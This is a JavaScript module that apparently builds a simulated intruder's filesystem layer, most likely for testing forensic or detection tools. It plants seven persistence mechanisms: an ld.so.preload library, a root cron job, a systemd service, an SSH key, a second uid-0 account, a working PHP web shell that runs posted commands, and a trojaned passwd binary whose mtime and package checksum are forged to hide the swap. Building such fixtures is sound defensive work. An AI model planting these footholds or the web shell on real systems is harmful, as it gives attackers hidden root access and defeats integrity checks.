import { createHash } from 'node:crypto';
import { dir, elf, file } from './entries.mjs';

/** What the step of the intruder left: seven footholds, and what they start. `known`: files of the layers below, by path. */
export function intruderEntries(known) {
  const replaced = elf('passwd that also writes down what is typed');
  const sums = known.get('var/lib/dpkg/info/passwd.md5sums').content.toString();
  const rewritten = sums.replace(
    /^[0-9a-f]{32}(?= {2}usr\/bin\/passwd$)/m,
    createHash('md5').update(replaced).digest('hex'),
  );
  const { mtime } = known.get('usr/bin/passwd');
  return [
    ...['etc', 'usr', 'usr/local', 'usr/local/lib', 'usr/local/bin', 'root/.ssh', 'var/www', 'var/www/html'].map(dir),
    // 1: a library in every program.
    file('etc/ld.so.preload', '/usr/local/lib/libedge.so\n'),
    file('usr/local/lib/libedge.so', elf('libedge')),
    // 2: a job.
    file('etc/cron.d/stats-refresh', 'SHELL=/bin/sh\n*/5 * * * * root /usr/local/bin/stats-agent\n'),
    file('usr/local/bin/stats-agent', elf('stats-agent'), 0o755),
    // 3: a service.
    file('etc/systemd/system/edge-agent.service', '[Service]\nExecStart=/usr/local/bin/stats-agent\nRestart=always\n'),
    // 4: a key.
    file(
      'root/.ssh/authorized_keys',
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8mGkExampleExampleExampleExampleExample ops\n',
      0o600,
    ),
    // 5: a second root.
    file('etc/passwd', `${known.get('etc/passwd').content.toString()}support:x:0:0:support:/root:/bin/bash\n`),
    // 6: a page that runs what a visitor sends.
    file('var/www/html/status.php', '<?php\n// status\n$q = $_POST["q"];\nif ($q) { echo shell_exec($q); }\n'),
    // 7: a packaged program replaced, with the time it had, and its checksum in the package database.
    { ...file('usr/bin/passwd', replaced, 0o4755), mtime },
    file('var/lib/dpkg/info/passwd.md5sums', rewritten),
  ];
}
